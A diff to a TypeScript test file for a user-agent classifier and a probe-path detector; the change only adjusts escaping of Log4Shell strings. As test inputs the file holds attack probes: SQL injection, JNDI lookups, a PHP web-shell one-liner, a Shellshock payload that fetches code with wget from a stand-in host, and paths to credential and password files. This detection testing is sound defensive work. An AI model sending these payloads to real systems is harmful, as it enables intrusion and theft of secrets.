@@ -67,7 +67,7 @@ t.test('bots: crawlers and monitors; scanners and attack probes named as scanner
   t.match(classifyUserAgent('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'), { clientClass: 'bot', botName: 'Nmap Scripting Engine' });
   const probe = (ua: string) => t.match(classifyUserAgent(ua), { clientClass: 'bot', isBot: true, botName: 'scanner', isPerson: false }, ua);
   probe("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36' AND 1=1 UNION SELECT NULL--");
-  probe('${jndi:ldap://203.0.113.9:1389/a}');
+  probe(`$\{jndi:ldap://203.0.113.9:1389/a}`); // a Log4Shell lookup
   probe('<?php system($_GET["c"]); ?>');
   probe('() { :; }; /bin/bash -c "wget http://198.51.100.7/x"');
   probe('Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 sleep(5)#');
@@ -81,7 +81,7 @@ t.test('unknown: agents that name nothing', async (t) => {
 
 t.test('probe paths: secrets, version control, traversal and injection in the path', async (t) => {
   for (const path of ['/.env', '/app/.env.local', '/.git/config', '/.aws/credentials', '/static/../../etc/passwd', '/%2e%2e/%2e%2e/x',
-    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/search/${jndi:ldap://x}']) t.equal(isProbePath(path), true, path);
+    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', `/search/$\{jndi:ldap://x}`]) t.equal(isProbePath(path), true, path);
   for (const path of ['/', '/.well-known/security.txt', '/env', '/docs/.envelope', '/wp-login.php', '/blog/git-tips']) t.equal(isProbePath(path), false, path);
 });
 
